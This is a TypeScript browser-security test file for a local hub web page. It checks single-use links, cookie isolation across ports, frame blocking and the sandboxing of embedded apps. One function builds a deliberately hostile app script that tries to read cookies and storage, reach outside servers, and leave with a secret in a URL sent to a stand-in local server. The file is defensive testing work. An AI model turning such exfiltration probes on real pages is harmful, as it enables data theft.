import { once } from 'node:events';
import { createServer, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, onTestFinished } from 'vitest';
import { knock } from '../contracts/knock.ts';
import { startHub } from '../contracts/running-hub.ts';
import { recordedHub } from '../contracts/recorded-hub.ts';
import { verifies } from '../requirements.ts';
import { newContext } from './chromium.ts';
import { openPage } from './world.ts';

interface OtherServer {
  readonly url: string;
  readonly requests: IncomingMessage[];
}

/** Another server on this machine, which answers everything with one page. */
async function otherServer(html: string): Promise<OtherServer> {
  const requests: IncomingMessage[] = [];
  const server = createServer((request, response) => {
    requests.push(request);
    response.writeHead(200, { 'content-type': 'text/html', 'access-control-allow-origin': '*' }).end(html);
  }).listen(0, '127.0.0.1');
  onTestFinished(() => server.close().closeAllConnections());
  await once(server, 'listening');
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, requests }; // it listens
}

verifies(
  ['H1', 'attack:A6'],
  'a link leaves the address and the history, and a used one lets no other browser in',
  async () => {
    const { page, url } = await openPage();
    expect(page.url()).not.toContain('open=');
    const fresh = await startHub(recordedHub().open, { pageFolder: `${import.meta.dirname}/../../dist/web` });
    const link = fresh.pageLink?.().url ?? '';
    const [first, second] = await Promise.all([newContext(), newContext()]);
    const seen: number[] = [];
    for (const context of [first, second]) {
      const tab = await context.newPage();
      tab.on('response', (response) => {
        if (response.url().endsWith('/open')) seen.push(response.status());
      });
      const asked = tab.waitForResponse((response) => response.url().endsWith('/open'));
      await tab.goto(link);
      await asked;
      expect(await tab.evaluate(() => window.location.hash)).toBe('');
    }
    expect(seen).toEqual([200, 401]);
    expect(url).not.toBe(fresh.address.url);
  },
);

verifies(
  ['H1'],
  'another server on this machine is sent the cookie, and can do nothing with it',
  async () => {
    const { page, context, url } = await openPage({ mayComplain: /./ });
    const other = await otherServer('<title>other</title>');
    const tab = await context.newPage();
    await tab.goto(other.url);
    // This is why the cookie is only half of it: browsers keep one jar for all ports.
    const cookie = other.requests[0]?.headers.cookie ?? '';
    expect(cookie).toMatch(/^plug-page-\d+=/);
    expect((await knock({ url }, { path: '/v1/status', headers: { cookie } })).status).toBe(401);
    const tried = await tab.evaluate(async (hub) => {
      const ask = (init: RequestInit): Promise<string> =>
        fetch(`${hub}/v1/servers`, { credentials: 'include', ...init }).then(
          (answer) => `${answer.type} ${answer.status}`,
          () => 'refused',
        );
      return {
        key: localStorage.getItem('plug.page'),
        read: await ask({}),
        named: await ask({ headers: { 'x-plug-page': 'guess' } }),
        blind: await ask({ mode: 'no-cors', method: 'POST', body: '{}' }),
      };
    }, url);
    expect(tried).toEqual({ key: null, read: 'refused', named: 'refused', blind: 'refused' });
    expect(await page.evaluate(() => localStorage.getItem('plug.page'))).toMatch(/^[\w-]{43}$/);
  },
);

verifies(['H1', 'attack:A7'], 'no other page can show ours in a frame', async () => {
  const { context, url } = await openPage();
  const frame = url.replace('127.0.0.1', 'localhost');
  const other = await otherServer(
    `<iframe src="${url}/"></iframe><iframe src="${frame}/app-frame"></iframe>`,
  );
  const tab = await context.newPage();
  await tab.goto(other.url);
  await tab.waitForLoadState('networkidle');
  const shown = tab.frames().map((each) => each.url());
  expect(shown).toHaveLength(3);
  expect(shown.filter((each) => each.startsWith('http'))).toEqual([`${other.url}/`]);
});

verifies(['H1'], 'an app in its frame has no cookie, no storage, no network and no way out', async () => {
  const { page, url } = await openPage({ mayComplain: /Content Security Policy|net::ERR/ });
  const outside = await otherServer('outside');
  const origin = url.replace('127.0.0.1', 'localhost');
  const said = await page.evaluate(
    async ({ origin, html }) => {
      const heard: unknown[] = [];
      const frame = document.createElement('iframe');
      frame.setAttribute('sandbox', 'allow-scripts allow-same-origin');
      frame.src = `${origin}/app-frame`;
      const tell = (method: string, params: object): void =>
        frame.contentWindow?.postMessage({ jsonrpc: '2.0', method, params }, origin);
      const { promise, resolve } = Promise.withResolvers<void>();
      window.addEventListener(
        'message',
        ({ data, source }: MessageEvent<{ method: string; params: unknown }>) => {
          if (source !== frame.contentWindow) return;
          if (data.method === 'ui/notifications/sandbox-proxy-ready') {
            tell('ui/notifications/sandbox-resource-ready', { html });
          }
          if (data.method === 'asked') tell('answer', { text: 'hello' });
          heard.push(data.method === 'said' ? data.params : data.method);
          if (data.params === 'end') resolve();
        },
      );
      document.body.append(frame);
      await promise;
      return heard;
    },
    { origin, html: hostileApp(url, outside.url) },
  );
  expect(said).toEqual([
    'ui/notifications/sandbox-proxy-ready',
    { origin: 'null', cookie: 'refused', storage: 'refused', page: 'refused', frame: 'refused' },
    { hub: 'refused', outside: 'refused', image: 'refused' },
    'asked',
    { answer: 'hello' },
    'end',
  ]);
  await page.waitForFunction(() => document.querySelectorAll('iframe').length === 1);
  // It has tried to go elsewhere with what it knows; nothing came there.
  await expect.poll(() => page.frames().some((each) => each.url().startsWith('chrome-error:'))).toBe(true);
  expect(outside.requests.map((each) => each.url)).toEqual([]);
});

/** An app that tries everything, says what came of it, and then leaves with a secret in its address. */
function hostileApp(hub: string, outside: string): string {
  return `<!doctype html><html><head><title>app</title></head><body><script type="module">
    const say = (params) => parent.postMessage({ jsonrpc: '2.0', method: 'said', params }, '*');
    const tried = (work) => { try { return String(work()); } catch { return 'refused'; } };
    const asked = (address) => fetch(address).then(() => 'reached', () => 'refused');
    const image = new Promise((resolve) => {
      const shown = new Image();
      shown.onload = () => resolve('shown');
      shown.onerror = () => resolve('refused');
      shown.src = '${outside}/image';
    });
    parent.postMessage({ jsonrpc: '2.0', method: 'ui/notifications/sandbox-proxy-ready', params: {} }, '*');
    say({
      origin: self.origin,
      cookie: tried(() => document.cookie),
      storage: tried(() => localStorage.length),
      page: tried(() => top.location.href),
      frame: tried(() => parent.document.title),
    });
    say({ hub: await asked('${hub}/v1/status'), outside: await asked('${outside}/'), image: await image });
    addEventListener('message', ({ data }) => {
      say({ answer: data.params.text });
      say('end');
      location.href = '${outside}/?secret';
    });
    parent.postMessage({ jsonrpc: '2.0', method: 'asked', params: {} }, '*');
  </script></body></html>`;
}
